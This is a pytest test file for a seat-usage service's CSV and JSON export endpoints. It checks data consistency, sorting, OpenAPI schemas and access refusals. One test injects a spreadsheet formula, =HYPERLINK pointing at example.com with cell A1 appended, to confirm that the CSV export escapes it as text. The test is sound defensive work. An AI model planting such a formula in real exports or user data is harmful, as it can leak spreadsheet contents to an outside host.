"""Downloads of the usage history and the grid: parsed back, and the same as the API."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from litestar import Litestar
from litestar.testing import TestClient

from seatkeeper.storage.db import Database
from tests.conftest import World, bearer, offer
from tests.web.api.test_agent import call, error_of, login
from tests.web.pages.test_pages import log_in

Client = TestClient[Litestar]
API = "/api/v1/accounts/acme"


def get(client: Client, path: str, token: str) -> Any:
    return client.get(f"{API}{path}", headers=bearer(token))


def rows_of(answer: Any) -> list[dict[str, str]]:
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.text)))


@pytest.fixture
def busy(client: Client, world: World) -> None:
    alice, bob = login(client, world, "alice"), login(client, world, "bob")
    for flow in ("Password Reset", "Billing Dispute"):
        call(client, "POST", f"{alice['session_id']}/interactions", alice["token"], {"flow": flow})
    call(client, "POST", f"{bob['session_id']}/interactions", bob["token"], {"flow": "New Order"})


def test_usage_downloads_as_csv_and_json_say_what_the_usage_api_says(
    client: Client, world: World, busy: None
) -> None:
    usage = get(client, "/usage", world.admin_token).json()
    as_json = get(client, "/usage/export?format=json", world.admin_token)
    assert as_json.status_code == 200
    assert as_json.json() == usage
    assert as_json.headers["content-disposition"] == (
        f'attachment; filename="acme-usage-{usage["as_of"][:10]}.json"'
    )

    as_csv = get(client, "/usage/export", world.admin_token)
    rows = rows_of(as_csv)
    assert as_csv.headers["content-disposition"].endswith('.csv"')
    assert len(rows) == len(usage["days"]) == 30
    paris = ZoneInfo("Europe/Paris")
    for row, day in zip(rows, usage["days"], strict=True):
        assert row["date"] == day["date"]
        start = datetime.fromisoformat(row["day_start"])
        assert start.date().isoformat() == day["date"]
        assert start.utcoffset() == start.astimezone(paris).utcoffset()  # midnight in Paris
        assert (start.hour, start.minute) == (0, 0)
        assert int(row["max_concurrent"]) == day["max_concurrent"]
        assert int(row["denials"]) == day["denials"]
        assert int(row["minutes_at_cap"]) == day["minutes_at_cap"]
        assert int(row["peak_demand"]) == day["peak_demand"]
        assert row["account_existed"] == str(day["account_existed"]).lower()
        assert int(row["overdraft_peak"]) == day["overdraft_peak"]
        assert int(row["overdraft_minutes"]) == day["overdraft_minutes"]
    assert int(rows[-1]["max_concurrent"]) == 2  # today: alice and bob


def test_grid_downloads_hold_every_matching_session_sorted_as_asked(
    client: Client, world: World, busy: None
) -> None:
    query = "sort=agent_id&order=desc"
    grid = get(client, f"/active-sessions?{query}", world.admin_token).json()
    rows = rows_of(get(client, f"/active-sessions/export?{query}", world.admin_token))
    assert [r["agent_id"] for r in rows] == ["bob", "alice"]
    for row, session in zip(rows, grid["sessions"], strict=True):
        assert row["session_id"] == session["session_id"]
        assert row["session_start"] == session["session_start"]
        assert row["session_start"].endswith("+01:00") or row["session_start"].endswith("+02:00")
        assert row["open_interactions"].split("; ") == session["open_interactions"]
        assert int(row["open_interactions_count"]) == session["open_interactions_count"]

    searched = get(client, "/active-sessions/export?q=billing&format=json", world.admin_token)
    body = searched.json()
    assert (body["count"], [s["agent_id"] for s in body["sessions"]]) == (1, ["alice"])
    assert re.fullmatch(
        r'attachment; filename="acme-active-sessions-\d{4}-\d\d-\d\dT\d{4}\.json"',
        searched.headers["content-disposition"],
    )


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(
    client: Client, world: World, db: Database
) -> None:
    alice = login(client, world, "alice")
    formula = '=HYPERLINK("http://example.com/?"&A1,"x")'
    offer(db, formula)
    call(client, "POST", f"{alice['session_id']}/interactions", alice["token"], {"flow": formula})
    (row,) = rows_of(get(client, "/active-sessions/export", world.admin_token))
    assert row["open_interactions"] == "'" + formula
    assert row["agent_id"] == "alice"  # nothing else changes


def test_the_api_document_gives_both_forms_of_each_download(client: Client) -> None:
    # Found by the API fuzzing: the CSV answer was documented as JSON text.
    paths = client.get("/docs/openapi.json").json()["paths"]
    for path, body in (("usage/export", "Usage"), ("active-sessions/export", "ActiveSessions")):
        content = paths[f"/api/v1/accounts/{{account}}/{path}"]["get"]["responses"]["200"][
            "content"
        ]
        assert content["text/csv"]["schema"] == {"type": "string"}
        assert content["application/json"]["schema"] == {"$ref": f"#/components/schemas/{body}"}


def test_downloads_refuse_bad_requests_and_other_accounts(client: Client, world: World) -> None:
    unknown = get(client, "/usage/export?format=xml", world.admin_token)
    assert error_of(unknown) == (400, "invalid_request")
    assert "Unknown format 'xml'; use csv or json." in unknown.json()["error"]["message"]
    bad_sort = get(client, "/active-sessions/export?sort=open_interactions", world.admin_token)
    assert error_of(bad_sort) == (400, "invalid_sort")
    for path in ("/usage/export", "/active-sessions/export"):
        assert error_of(get(client, path, world.agent_token)) == (403, "not_allowed")
        assert error_of(get(client, path, world.globex_admin_token)) == (404, "account_not_found")


def test_the_page_offers_the_downloads_of_what_it_shows(
    client: Client, world: World, busy: None
) -> None:
    log_in(client, "admin")
    page = client.get("/accounts/acme/active-agents?sort=agent_id&order=desc&q=b").text
    links = dict(re.findall(r'href="([^"]+)" download data-testid="([^"]+)"', page))
    by_name = {name: href.replace("&amp;", "&") for href, name in links.items()}
    assert by_name["usage-csv"] == f"{API}/usage/export?format=csv"
    assert (
        by_name["grid-json"]
        == f"{API}/active-sessions/export?sort=agent_id&order=desc&q=b&format=json"
    )
    assert "Download the 2 matching sessions" in page
    # The login cookie is enough to download, as for every read of the API.
    downloaded = client.get(by_name["grid-csv"])
    assert [r["agent_id"] for r in rows_of(downloaded)] == ["bob", "alice"]
